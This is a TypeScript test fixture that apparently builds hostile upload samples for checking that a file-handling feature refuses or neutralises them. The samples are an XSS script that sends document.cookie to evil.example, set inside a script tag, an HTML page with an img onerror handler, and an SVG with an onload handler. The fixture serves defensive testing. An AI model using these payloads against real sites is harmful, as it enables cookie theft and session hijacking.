/** The global variable that a file's script would set in its page. */
export const scriptMarker = 'konsilRan';

/** The attempts of every hostile file: set a variable, alert, send a request. */
export const script = `globalThis.${scriptMarker}=1;alert(document.domain);fetch('https://evil.example/steal?'+document.cookie)`;
export const element = `<script>${script}</script>`;
export const page = `<!doctype html><html><body>${element}<img src=x onerror="${script}"></body></html>`;
export const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}">${element}<image href="https://evil.example/x.png"/></svg>`;

export interface HostileFile {
  /** Description for the report. */
  what: string;
  name: string;
  bytes: Buffer;
  /** True if it is accepted (and then harmless) or refused. */
  kept: boolean;
}

export const text = (content: string): Buffer => Buffer.from(content, 'latin1');
export const refused = (what: string, name: string, bytes: Buffer): HostileFile => ({ what, name, bytes, kept: false });
export const kept = (what: string, name: string, bytes: Buffer): HostileFile => ({ what, name, bytes, kept: true });
